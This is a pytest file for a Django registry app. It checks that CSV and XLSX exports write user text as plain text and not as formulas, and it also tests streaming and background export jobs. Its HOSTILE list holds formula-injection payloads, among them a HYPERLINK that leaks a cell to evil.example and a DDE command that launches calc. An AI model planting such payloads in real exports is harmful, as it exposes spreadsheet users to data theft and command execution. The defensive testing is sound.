"""The one export path: user text is written as text (no formula from data, issue 9 point 5), lists stream."""

import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ectalent.core import exports
from ectalent.registry.models import Person

pytestmark = pytest.mark.django_db

HOSTILE = ["=HYPERLINK(\"http://evil.example/\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(1,1)",
           "\t=1+1", "\r=1+1"]


def formulas(xlsx: bytes) -> list[str]:
    """Every formula element in every sheet of an xlsx file."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [m for name in archive.namelist() if name.startswith("xl/worksheets/")
                for m in re.findall(r"<f[ >].*?</f>", archive.read(name).decode("utf-8"))]


def body(response) -> bytes:
    return response.content if not response.streaming else b"".join(response.streaming_content)


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cell_that_a_spreadsheet_would_run_is_prefixed(text):
    assert exports.csv_text(text) == "'" + text
    assert exports.csv_text("张三") == "张三" and exports.csv_text("") == ""


def test_sheet_writes_every_kind_of_value_without_formulas(tmp_path):
    import datetime
    from decimal import Decimal

    from django.utils import translation

    book = exports.Book(str(tmp_path / "t.xlsx"))
    with translation.override("zh-hans"):
        sheet = book.sheet("表")
    sheet.row(0, [*HOSTILE, 5, 2.5, Decimal("1.25"), True, datetime.date(2024, 1, 2), None])
    book.close()
    data = (tmp_path / "t.xlsx").read_bytes()
    assert formulas(data) == []
    values = next(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    assert list(values[: len(HOSTILE) - 1]) == HOSTILE[:-1]  # (openpyxl reads a CR as _x000D_)
    assert list(values[len(HOSTILE):]) == [5, 2.5, 1.25, "是", "2024-01-02"]


@pytest.fixture
def hostile_person(world):
    person = world.people.yiwu
    Person.objects.filter(pk=person.pk).update(employer=HOSTILE[0], name="=1+1")
    return person


def test_people_csv_export_neutralises_formulas(world, login, hostile_person):
    response = login(world.users["yw_county"]).get(reverse("registry:person-export", args=["csv"]))
    rows = list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))
    row = next(r for r in rows if r[0] == str(hostile_person.pk))
    assert row[1] == "'=1+1" and row[-1] == "'" + HOSTILE[0]


def test_people_xlsx_export_writes_text_not_formulas(world, login, hostile_person):
    response = login(world.users["yw_county"]).get(reverse("registry:person-export", args=["xlsx"]))
    data = body(response)
    assert formulas(data) == []
    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    row = next(r for r in rows if r[0] == hostile_person.pk)
    assert row[1] == "=1+1" and row[-1] == HOSTILE[0]


def test_official_forms_write_hostile_names_as_text():
    """附件4/5/6 render through the same path: an organisation's name or address that looks like a formula stays
    text (openpyxl, used before, wrote it as a live formula)."""
    from ectalent.accreditation.exports import Cell, Form, Grid, Line, render_xlsx

    form = Form(annex="附件4", title="培训机构基本情况申报表", sheet="附件4", widths=[28, 48, 40, 54], blocks=[
        Line(HOSTILE[1]),
        Grid(cells=[Cell(0, 0, "单位名称", label=True), Cell(0, 1, HOSTILE[0], colspan=3),
                    Cell(1, 0, "地址", label=True, rowspan=2), Cell(1, 1, "@SUM(1)", colspan=3),
                    Cell(2, 1, "-1", colspan=3, joined_above=True)], rows=3),
    ])
    data = render_xlsx(form)
    assert formulas(data) == []
    values = {v for row in load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True) for v in row if v}
    assert {HOSTILE[0], HOSTILE[1], "@SUM(1)", "-1"} <= values


def test_large_file_is_streamed_from_disk_and_removed(tmp_path, monkeypatch):
    monkeypatch.setattr(exports, "IN_MEMORY_RESPONSE", 100)
    book = exports.Book()
    exports.write_table(book, "表", ["a", "b"], ((i, f"行{i}") for i in range(2000)))
    path = book.path
    response = exports.xlsx_response(book, "x.xlsx")
    assert response.streaming
    data = body(response)
    import os

    assert not os.path.exists(path)
    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    assert rows[0] == ("a", "b") and rows[-1] == (1999, "行1999") and len(rows) == 2001


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_large_export_runs_as_a_background_job_in_the_same_scope(world, login, monkeypatch, fmt):
    from ectalent.audit.models import AuditAction, AuditEvent
    from ectalent.jobs.models import Job

    monkeypatch.setattr(exports, "BACKGROUND_ROWS", 1)
    user = world.users["jh_city"]
    client = login(user)
    response = client.get(reverse("registry:person-export", args=[fmt]))
    job = Job.objects.get(user=user)
    assert response.status_code == 302 and response["Location"] == job.get_absolute_url()
    assert job.status == "succeeded" and job.result_name.endswith(f".{fmt}")
    data = body(client.get(reverse("jobs:result", args=[job.pk])))
    if fmt == "xlsx":
        ids = {row[0] for row in list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))[1:]}
    else:
        ids = {int(row[0]) for row in list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1:]}
    visible = set(Person.objects.visible_to(user).values_list("pk", flat=True))
    assert ids == visible and world.people.hangzhou.pk not in ids
    event = AuditEvent.objects.filter(action=AuditAction.EXPORT).latest("seq")
    assert event.actor_id == user.pk and event.after["rows"] == len(visible)
